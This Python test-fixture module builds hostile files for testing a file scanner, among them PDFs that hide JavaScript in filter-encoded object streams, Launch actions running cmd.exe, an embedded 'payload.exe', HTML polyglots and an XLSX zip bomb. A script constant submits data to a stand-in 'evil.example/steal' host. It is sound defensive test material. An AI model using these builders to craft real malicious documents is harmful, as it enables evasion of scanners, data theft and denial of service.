"""Hostile files, built in the test run (no binary fixture): PDFs whose active content hides in
object streams under any chain of filters, polyglots, images carrying a page, zip bombs.
Each builder returns bytes; ``clean_*`` builders return the same files without the attack."""

import base64
import binascii
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, PngImagePlugin

SCRIPT = b"app.alert('x'); this.submitForm('https://evil.example/steal')"


def _encode(data: bytes, filters: list[str]) -> bytes:
    """``data`` encoded so that decoding with ``filters`` (in PDF order) gives it back."""
    for name in reversed(filters):
        if name == "ASCIIHexDecode":
            data = binascii.hexlify(data) + b">"
        elif name == "ASCII85Decode":
            data = base64.a85encode(data) + b"~>"
        elif name == "FlateDecode":
            data = zlib.compress(data)
        elif name == "LZWDecode":
            data = lzw_encode(data)
        else:
            raise ValueError(name)
    return data


def lzw_encode(data: bytes) -> bytes:
    """LZW as PDF's LZWDecode reads it (ISO 32000-1, 7.4.4: 9-12 bit codes, 256 clear,
    257 end of data, EarlyChange 1)."""
    table = {bytes([i]): i for i in range(256)}
    width, bits, nbits = 9, 0, 0
    out = bytearray()

    def emit(code: int) -> None:
        nonlocal bits, nbits
        bits = (bits << width) | code
        nbits += width
        while nbits >= 8:
            nbits -= 8
            out.append((bits >> nbits) & 0xFF)

    emit(256)
    word = b""
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        emit(table[word])
        table[candidate] = len(table) + 2  # 256 and 257 are taken
        word = bytes([byte])
        if len(table) + 2 >= (1 << width) - 1 and width < 12:
            width += 1  # EarlyChange: one code early
    if word:
        emit(table[word])
    emit(257)
    if nbits:
        out.append((bits << (8 - nbits)) & 0xFF)
    return bytes(out)


def pdf_with_object_stream(
    packed: list[bytes], *, catalog_extra: bytes = b"", filters: list[str]
) -> bytes:
    """A one-page PDF 1.5 whose objects 4, 5, … (``packed``) sit in an object stream encoded
    with ``filters``, found through a cross-reference stream (ISO 32000-1, 7.5.7 and 7.5.8).
    ``catalog_extra`` may refer to them (``/OpenAction 4 0 R``)."""
    header = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    first_packed = len(plain) + 1
    offsets, body = [], b""
    for i, obj in enumerate(packed):
        offsets.append(b"%d %d" % (first_packed + i, len(body)))
        body += obj + b"\n"
    index = b" ".join(offsets) + b"\n"
    stream_number = first_packed + len(packed)
    encoded = _encode(index + body, filters)
    filter_value = b"[" + b" ".join(b"/" + f.encode() for f in filters) + b"]"
    objstm = (
        b"<< /Type /ObjStm /N %d /First %d /Length %d /Filter %s >>\nstream\n"
        % (len(packed), len(index), len(encoded), filter_value)
        + encoded
        + b"\nendstream"
    )
    out = io.BytesIO()
    out.write(header)
    places = {}
    for number, obj in enumerate([*plain], start=1):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    places[stream_number] = out.tell()
    out.write(b"%d 0 obj\n" % stream_number + objstm + b"\nendobj\n")
    xref_number = stream_number + 1
    xref_offset = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in places:
            rows.append(struct.pack(">BIH", 1, places[number], 0))
        elif number == xref_number:
            rows.append(struct.pack(">BIH", 1, xref_offset, 0))
        else:  # packed object: type 2, (object stream number, index in it)
            rows.append(struct.pack(">BIH", 2, stream_number, number - first_packed))
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return out.getvalue()


def js_in_object_stream(filters: list[str]) -> bytes:
    """An /OpenAction JavaScript action packed in an object stream encoded with ``filters``."""
    action = b"<< /Type /Action /S /JavaScript /JS (" + SCRIPT + b") >>"
    return pdf_with_object_stream([action], catalog_extra=b"/OpenAction 4 0 R ", filters=filters)


def names_javascript_in_object_stream(filters: list[str]) -> bytes:
    """A document-level ``/Names /JavaScript`` tree packed in an encoded object stream."""
    names = b"<< /JavaScript 5 0 R >>"
    tree = b"<< /Names [(init) 6 0 R] >>"
    action = b"<< /S /JavaScript /JS (" + SCRIPT + b") >>"
    return pdf_with_object_stream(
        [names, tree, action], catalog_extra=b"/Names 4 0 R ", filters=filters
    )


def _pikepdf_bytes(build) -> bytes:
    """A PDF written by qpdf after ``build(pdf)`` changed a new one-page document; compressed
    object streams, as real producers write them."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        build(document)
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def clean_pdf() -> bytes:
    return _pikepdf_bytes(lambda document: None)


def xfa_form() -> bytes:
    """An XFA form with a script in its template (Adobe XFA 3.3, the <script> element)."""

    def build(document):
        template = document.make_stream(
            b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform>'
            b'<event activity="initialize"><script contentType="application/x-javascript">'
            + SCRIPT
            + b"</script></event></subform></template>"
        )
        document.Root.AcroForm = document.make_indirect(
            pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array(["template", template]))
        )

    return _pikepdf_bytes(build)


def _link_annotation(action: pikepdf.Dictionary):
    def build(document):
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 200, 200],
            A=action,
        )
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([annotation]))

    return _pikepdf_bytes(build)


def uri_action() -> bytes:
    return _link_annotation(
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))
    )


def submit_form_action() -> bytes:
    return _link_annotation(
        pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm,
            F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/")),
        )
    )


def launch_action() -> bytes:
    return _link_annotation(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def remote_goto_action() -> bytes:
    return _link_annotation(
        pikepdf.Dictionary(
            S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"), D=[0, "/Fit"]
        )
    )


def embedded_file() -> bytes:
    def build(document):
        document.attachments["payload.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00")

    return _pikepdf_bytes(build)


def html_after_eof() -> bytes:
    """A PDF/HTML polyglot: a page after ``%%EOF`` (a sniffing browser renders it)."""
    return clean_pdf() + b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def html_before_pdf() -> bytes:
    """A PDF/HTML polyglot the other way round: a page first, the PDF after it (readers still
    find ``%PDF`` in the first kilobyte)."""
    return b"<html><script>alert(document.cookie)</script><!--\n" + clean_pdf() + b"-->"


def clean_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(out, "PNG")
    return out.getvalue()


def png_with_html_text(compressed: bool = False) -> bytes:
    """A PNG whose text chunk (tEXt, or zTXt when ``compressed``) holds a web page."""
    info = PngImagePlugin.PngInfo()
    page = "<html><body><script>alert(document.cookie)</script></body></html>"
    if compressed:
        info.add_text("Comment", page, zip=True)
    else:
        info.add_text("Comment", page)
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def png_with_trailer() -> bytes:
    return clean_png() + b"<html><script>alert(1)</script></html>"


def jpeg_with_trailer() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(out, "JPEG")
    return out.getvalue() + b"<html><script>alert(1)</script></html>"


def xlsx_bomb(sheet_bytes: int = 400 * 1024 * 1024) -> bytes:
    """A valid-looking XLSX whose one sheet unpacks to ``sheet_bytes`` (a 400 MB sheet in a
    file of about 400 KB: Deflate packs a run of one byte about 1000 to 1). Written in pieces
    so that the test never holds the sheet in memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b" " * (1024 * 1024)
            for _ in range(sheet_bytes // len(block)):
                sheet.write(block)
    return out.getvalue()
